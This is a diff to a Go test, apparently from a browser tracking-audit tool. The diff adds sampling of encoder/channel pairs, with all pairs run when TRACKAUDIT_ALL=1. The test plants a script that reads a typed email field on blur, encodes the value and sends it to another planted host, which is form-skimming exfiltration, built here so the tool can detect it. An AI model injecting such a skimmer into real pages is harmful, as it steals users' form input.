@@ -2,6 +2,7 @@ package browser
 
 import (
 	"fmt"
+	"os"
 	"strings"
 	"testing"
 
@@ -51,7 +52,8 @@ function md5(t){ // RFC 1321
   return h.map(x=>[0,8,16,24].map(q=>(x>>>q&255).toString(16).padStart(2,'0')).join('')).join('');
 }`
 
-// TestForms: a typed value is found in every encoding over every channel, in a form that nobody submits.
+// TestForms: a typed value is found in every encoding over every channel, in a form that nobody submits. By default a
+// third of the pairs is tried, with each encoding and each channel among them; all with TRACKAUDIT_ALL=1.
 func TestForms(t *testing.T) {
 	web.plant.handle(plantOther+"/socket", acceptSocket)
 	b := own(t, "shell", func(o *Options) { o.Forms = true })
@@ -59,6 +61,10 @@ func TestForms(t *testing.T) {
 	lost := make([]string, len(encoders)*len(channels))
 	inParallel(len(lost), 3, func(i int) {
 		e, ch := encoders[i/len(channels)], channels[i%len(channels)]
+		if (i/len(channels)+i%len(channels))%3 != 0 && os.Getenv("TRACKAUDIT_ALL") == "" {
+			lost[i] = "not tried"
+			return
+		}
 		at := fmt.Sprintf("/form%d", i)
 		send := strings.ReplaceAll(ch.js, "OTHER", "https://"+plantOther+at)
 		web.plant.put(plantThird+at+".js", formHelpers+"document.querySelector('[name=mail]').addEventListener('blur',async ev=>{const v=ev.target.value,e="+e.js+";"+send+"})")
@@ -80,6 +86,9 @@ func TestForms(t *testing.T) {
 		}
 	})
 	for i, why := range lost {
+		if why == "not tried" {
+			continue
+		}
 		if all++; why == "" {
 			found++
 			continue
